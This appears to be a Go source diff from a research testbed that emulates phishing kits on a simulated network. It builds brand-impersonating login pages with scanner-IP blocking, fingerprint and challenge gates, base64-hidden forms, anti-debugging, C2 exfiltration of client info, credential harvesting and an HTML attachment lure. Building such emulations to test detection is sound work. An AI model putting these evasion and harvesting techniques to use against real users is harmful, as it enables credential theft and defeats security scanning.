@@ -1,0 +1,440 @@
+package phishkit
+
+import (
+	"fmt"
+	"strings"
+	"sync"
+	"time"
+
+	"crawlerbox/internal/botdetect"
+	"crawlerbox/internal/cloak"
+	"crawlerbox/internal/webnet"
+)
+
+// SiteConfig assembles one phishing deployment from kit building blocks.
+// Zero values disable each layer.
+type SiteConfig struct {
+	// Host is the landing domain.
+	Host string
+	// Brand is the impersonated organization.
+	Brand Brand
+	// LandingPath is the tokenized path (default "/login").
+	LandingPath string
+
+	// --- server-side cloaking ---
+
+	// Tokens enables the tokenized-URL gate with these values (param "t").
+	Tokens []string
+	// MobileOnly restricts to mobile user agents (QR campaigns).
+	MobileOnly bool
+	// BlockScannerIPs hides from datacenter/security-vendor address space.
+	BlockScannerIPs bool
+	// Countries geo-restricts the page when non-empty.
+	Countries []string
+	// ActivateAt delays activation when non-zero.
+	ActivateAt time.Time
+
+	// --- challenge services ---
+
+	// Turnstile gates the page behind the challenge service when set.
+	Turnstile *botdetect.Turnstile
+	// ReCaptcha runs the background scorer after the page loads when set.
+	ReCaptcha *botdetect.ReCaptchaV3
+
+	// --- client-side cloaking ---
+
+	// FingerprintGate requires the UA/timezone/language triple.
+	FingerprintGate bool
+	// ExpectedTimezone / ExpectedLanguage configure the gate
+	// (defaults: Europe/Paris, en-US).
+	ExpectedTimezone string
+	ExpectedLanguage string
+	// InteractionGate requires a trusted mouse event.
+	InteractionGate bool
+	// DelayedRevealMs reveals after a timer when > 0.
+	DelayedRevealMs int
+	// OTPCode gates behind a one-time password when non-empty.
+	OTPCode string
+	// MathChallenge gates behind a trivial equation when true.
+	MathChallenge bool
+	// VictimCheckC2 enables the victim-database check against this host.
+	VictimCheckC2 string
+	// ConsoleHijack suppresses console output.
+	ConsoleHijack bool
+	// DebuggerTimer starts the anti-debugging loop (reports to C2Host).
+	DebuggerTimer bool
+	// HueRotateDeg perturbs the page colors when non-zero.
+	HueRotateDeg int
+	// HotLoadBrandAssets loads the logo from the brand's real servers —
+	// the defensive-telemetry opportunity of Section V-A.
+	HotLoadBrandAssets bool
+	// FPLibraryHost includes an open-source fingerprinting library (BotD
+	// style) from this host — the punctual kit of Section V-C2c.
+	FPLibraryHost string
+	// ExfiltrateClientInfo posts IP/geo/UA to the C2 before revealing.
+	ExfilHTTPBin string
+	ExfilIPAPI   string
+	// C2Host receives exfiltrated data and harvested credentials
+	// (defaults to the landing host itself).
+	C2Host string
+}
+
+// Site is a deployed phishing site.
+type Site struct {
+	Config SiteConfig
+	// LandingURL is a ready-to-send URL (first token applied, if any).
+	LandingURL string
+	gate       *cloak.TokenGate
+
+	mu sync.Mutex
+	// Harvested records credentials posted to the collector.
+	Harvested []Credentials
+	// VictimDB is the allowlist the victim-check script queries.
+	VictimDB map[string]bool
+}
+
+// Credentials is one harvested submission.
+type Credentials struct {
+	Email    string
+	Password string
+	ClientIP string
+}
+
+// Deploy builds the handler chain and serves the site on the network.
+func Deploy(net *webnet.Internet, cfg SiteConfig) *Site {
+	if cfg.LandingPath == "" {
+		cfg.LandingPath = "/login"
+	}
+	if cfg.C2Host == "" {
+		cfg.C2Host = cfg.Host
+	}
+	if cfg.ExpectedTimezone == "" {
+		cfg.ExpectedTimezone = "Europe/Paris"
+	}
+	if cfg.ExpectedLanguage == "" {
+		cfg.ExpectedLanguage = "en-US"
+	}
+	site := &Site{Config: cfg, VictimDB: map[string]bool{}}
+
+	core := func(req *webnet.Request) *webnet.Response {
+		switch {
+		case req.Path == "/session" && req.Method == "POST":
+			site.recordCreds(req)
+			return &webnet.Response{Status: 302, Headers: map[string]string{
+				"Location": "https://" + cfg.Brand.Domain + "/login"}}
+		case req.Path == "/check":
+			email := queryValue(req.RawQuery, "email")
+			if site.victimAllowed(urlDecode(email)) {
+				return &webnet.Response{Status: 200, Body: []byte("allow")}
+			}
+			return &webnet.Response{Status: 200, Body: []byte("deny")}
+		case req.Path == "/collect" && req.Method == "POST":
+			return &webnet.Response{Status: 200, Body: []byte("ok")}
+		case strings.HasPrefix(req.Path, "/assets/"):
+			return &webnet.Response{Status: 200,
+				Headers: map[string]string{"Content-Type": "image/png"},
+				Body:    []byte("LOGO:" + cfg.Brand.Name)}
+		case req.Path == "/debug-detected":
+			return &webnet.Response{Status: 200, Body: []byte("ok")}
+		case strings.HasPrefix(req.Path, cfg.LandingPath):
+			return site.landingResponse(req)
+		default:
+			return &webnet.Response{Status: 404, Body: []byte("not found")}
+		}
+	}
+
+	var mws []cloak.Middleware
+	if !cfg.ActivateAt.IsZero() {
+		mws = append(mws, cloak.DelayedActivation(net.Clock, cfg.ActivateAt))
+	}
+	if cfg.MobileOnly {
+		mws = append(mws, cloak.UserAgentFilter("iPhone", "Android", "Mobile"))
+	}
+	if cfg.BlockScannerIPs {
+		mws = append(mws, cloak.IPClassBlocklist(net, webnet.IPDatacenter, webnet.IPSecurityVendor))
+	}
+	if len(cfg.Countries) > 0 {
+		mws = append(mws, cloak.GeoFilter(net, cfg.Countries...))
+	}
+	if len(cfg.Tokens) > 0 {
+		site.gate = cloak.NewTokenGate("t", cfg.Tokens...)
+		mws = append(mws, tokenGateExcept(site.gate, "/check", "/collect", "/debug-detected"))
+	}
+	handler := cloak.Chain(core, mws...)
+
+	ip := net.AllocateIP(webnet.IPDatacenter)
+	net.AddDNS(cfg.Host, ip)
+	net.Serve(cfg.Host, handler)
+
+	site.LandingURL = "https://" + cfg.Host + cfg.LandingPath
+	if len(cfg.Tokens) > 0 {
+		site.LandingURL += "?t=" + cfg.Tokens[0]
+	}
+	return site
+}
+
+// tokenGateExcept applies the token gate to everything except support
+// endpoints the page's own scripts call.
+func tokenGateExcept(gate *cloak.TokenGate, exempt ...string) cloak.Middleware {
+	inner := gate.Middleware()
+	return func(next webnet.Handler) webnet.Handler {
+		gated := inner(next)
+		return func(req *webnet.Request) *webnet.Response {
+			for _, path := range exempt {
+				if req.Path == path {
+					return next(req)
+				}
+			}
+			return gated(req)
+		}
+	}
+}
+
+// landingResponse serves the (possibly challenge-wrapped) landing page.
+func (s *Site) landingResponse(req *webnet.Request) *webnet.Response {
+	cfg := s.Config
+	// Turnstile gate first: no clearance token -> challenge page. The gate
+	// target preserves the full original query (minus stale tokens) so
+	// layered cloaks survive the hop.
+	if cfg.Turnstile != nil && !cfg.Turnstile.ValidToken(queryValue(req.RawQuery, "__cft")) {
+		gatePath := cfg.LandingPath
+		if rest := stripParam(req.RawQuery, "__cft"); rest != "" {
+			gatePath += "?" + rest
+		}
+		return htmlResponse(cfg.Turnstile.GateHTML(gatePath, "__cft"))
+	}
+	if cfg.OTPCode != "" && queryValue(req.RawQuery, "otp") != cfg.OTPCode {
+		return htmlResponse(cloak.OTPGatePage(cfg.OTPCode, cfg.LandingPath+"?otp="+cfg.OTPCode))
+	}
+	if cfg.MathChallenge && queryValue(req.RawQuery, "solved") != "1" {
+		return htmlResponse(cloak.MathChallenge(7, 5, cfg.LandingPath+"?solved=1"))
+	}
+	return htmlResponse(s.loginHTML(req))
+}
+
+// stripParam removes every key=value pair for the given key from a query.
+func stripParam(raw, key string) string {
+	if raw == "" {
+		return ""
+	}
+	var kept []string
+	for _, kv := range strings.Split(raw, "&") {
+		if !strings.HasPrefix(kv, key+"=") {
+			kept = append(kept, kv)
+		}
+	}
+	return strings.Join(kept, "&")
+}
+
+// loginHTML assembles the final phishing login page with every configured
+// client-side layer.
+func (s *Site) loginHTML(req *webnet.Request) string {
+	cfg := s.Config
+	victim := ""
+	if tok := queryValue(req.RawQuery, "t"); tok != "" {
+		victim = tok + "@" + "corp.example" // tokenized spear phish addresses
+	}
+	// Kits either hot-load the logo from the brand's real servers or ship
+	// their own copy; either way the page shows one.
+	logo := "https://" + cfg.Host + "/assets/logo.png"
+	if cfg.HotLoadBrandAssets {
+		logo = "https://" + cfg.Brand.Domain + "/assets/logo.png"
+	}
+	post := "https://" + cfg.Host + "/session"
+
+	// The revealed page may be gated by client-side cloaks; in that case
+	// the visible document starts benign and the gate decodes the real
+	// form from base64.
+	realPage := LoginPageHTML(cfg.Brand, LoginPageOptions{
+		PostURL:     post,
+		LogoURL:     logo,
+		VictimEmail: victim,
+	})
+	innerBody := extractBody(realPage)
+
+	var head strings.Builder
+	if cfg.HueRotateDeg != 0 {
+		head.WriteString("<script>" + cloak.HueRotate(cfg.HueRotateDeg) + "</script>")
+	}
+	if cfg.Turnstile != nil {
+		// Kits keep the challenge script tag on the final page too.
+		head.WriteString(`<script src="https://` + cfg.Turnstile.Host() + `/challenge.js"></script>`)
+	}
+	if cfg.FPLibraryHost != "" {
+		head.WriteString(`<script src="https://` + cfg.FPLibraryHost + `/botd.js"></script>`)
+	}
+
+	var scripts []string
+	if cfg.ConsoleHijack {
+		scripts = append(scripts, cloak.ConsoleHijack())
+	}
+	if cfg.DebuggerTimer {
+		scripts = append(scripts, cloak.DebuggerTimer(cfg.C2Host))
+	}
+	if cfg.ExfilHTTPBin != "" && cfg.ExfilIPAPI != "" {
+		scripts = append(scripts, cloak.ExfiltrateClientInfo(cfg.ExfilHTTPBin, cfg.ExfilIPAPI, cfg.C2Host))
+	}
+	gated := cfg.FingerprintGate || cfg.InteractionGate || cfg.DelayedRevealMs > 0 || cfg.VictimCheckC2 != ""
+	var bodyContent string
+	if gated {
+		b64 := cloak.EncodeBase64HTML(innerBody)
+		bodyContent = "<p>Loading...</p>"
+		switch {
+		case cfg.VictimCheckC2 != "":
+			scripts = append(scripts, cloak.VictimCheck(cfg.VictimCheckC2, b64))
+		case cfg.FingerprintGate:
+			scripts = append(scripts, cloak.FingerprintGate("Chrome",
+				cfg.ExpectedTimezone, cfg.ExpectedLanguage, b64))
+		case cfg.InteractionGate:
+			scripts = append(scripts, cloak.InteractionGate(b64))
+		case cfg.DelayedRevealMs > 0:
+			scripts = append(scripts, cloak.DelayedReveal(b64, cfg.DelayedRevealMs))
+		}
+	} else {
+		bodyContent = innerBody
+	}
+
+	var sb strings.Builder
+	sb.WriteString("<html><head><title>")
+	sb.WriteString(cfg.Brand.Name)
+	sb.WriteString("</title>")
+	sb.WriteString(head.String())
+	if cfg.Brand.DarkTheme {
+		sb.WriteString(`</head><body style="background:#222222">`)
+	} else {
+		sb.WriteString("</head><body>")
+	}
+	sb.WriteString(bodyContent)
+	if cfg.ReCaptcha != nil {
+		sb.WriteString(`<script src="https://` + cfg.ReCaptcha.Host() + `/api.js"></script>`)
+	}
+	for _, sc := range scripts {
+		if sc == "" {
+			continue
+		}
+		sb.WriteString("<script>")
+		sb.WriteString(sc)
+		sb.WriteString("</script>")
+	}
+	sb.WriteString("</body></html>")
+	return sb.String()
+}
+
+func extractBody(html string) string {
+	start := strings.Index(html, "<body")
+	if start < 0 {
+		return html
+	}
+	open := strings.IndexByte(html[start:], '>')
+	end := strings.LastIndex(html, "</body>")
+	if open < 0 || end < 0 || end <= start+open {
+		return html
+	}
+	return html[start+open+1 : end]
+}
+
+func htmlResponse(html string) *webnet.Response {
+	return &webnet.Response{Status: 200,
+		Headers: map[string]string{"Content-Type": "text/html"},
+		Body:    []byte(html)}
+}
+
+func (s *Site) recordCreds(req *webnet.Request) {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	s.Harvested = append(s.Harvested, Credentials{
+		Email:    formValue(req.Body, "email"),
+		Password: formValue(req.Body, "password"),
+		ClientIP: req.ClientIP,
+	})
+}
+
+// AddVictim registers an address in the attacker's target database.
+func (s *Site) AddVictim(email string) {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	s.VictimDB[strings.ToLower(email)] = true
+}
+
+func (s *Site) victimAllowed(email string) bool {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return s.VictimDB[strings.ToLower(email)]
+}
+
+// TokenGate exposes the site's token gate (nil when not configured).
+func (s *Site) TokenGate() *cloak.TokenGate { return s.gate }
+
+func queryValue(raw, key string) string {
+	for _, kv := range strings.Split(raw, "&") {
+		parts := strings.SplitN(kv, "=", 2)
+		if len(parts) == 2 && parts[0] == key {
+			return parts[1]
+		}
+	}
+	return ""
+}
+
+func formValue(body, key string) string {
+	// Accept both form encoding and the JSON the kits post.
+	if v := queryValue(body, key); v != "" {
+		return v
+	}
+	marker := fmt.Sprintf(`"%s":"`, key)
+	if idx := strings.Index(body, marker); idx >= 0 {
+		rest := body[idx+len(marker):]
+		if end := strings.IndexByte(rest, '"'); end >= 0 {
+			return rest[:end]
+		}
+	}
+	return ""
+}
+
+func urlDecode(s string) string {
+	var sb strings.Builder
+	for i := 0; i < len(s); i++ {
+		switch {
+		case s[i] == '+':
+			sb.WriteByte(' ')
+		case s[i] == '%' && i+2 < len(s):
+			sb.WriteByte(hexByte(s[i+1])<<4 | hexByte(s[i+2]))
+			i += 2
+		default:
+			sb.WriteByte(s[i])
+		}
+	}
+	return sb.String()
+}
+
+func hexByte(c byte) byte {
+	switch {
+	case c >= '0' && c <= '9':
+		return c - '0'
+	case c >= 'a' && c <= 'f':
+		return c - 'a' + 10
+	case c >= 'A' && c <= 'F':
+		return c - 'A' + 10
+	default:
+		return 0
+	}
+}
+
+// HTMLAttachment builds the standalone HTML attachment lure of Section
+// V-B: opened locally, it loads external multimedia from legitimate hosts
+// and either rewrites the window location (windowRedirect) or embeds the
+// phishing page in an iframe without changing the visible URL.
+func HTMLAttachment(targetURL, mediaHost string, windowRedirect bool) string {
+	b64 := cloak.EncodeBase64HTML(targetURL)
+	action := `document.body.setInnerHTML('<iframe src="' + target + '"></iframe>');`
+	if windowRedirect {
+		action = `location.href = target;`
+	}
+	return fmt.Sprintf(`<html><head></head>
+<body style="background:url(https://%s/bg.png)">
+<img src="https://%s/banner.png" alt="document preview">
+<script>
+var target = atob(%q);
+%s
+</script>
+</body></html>`, mediaHost, mediaHost, b64, action)
+}
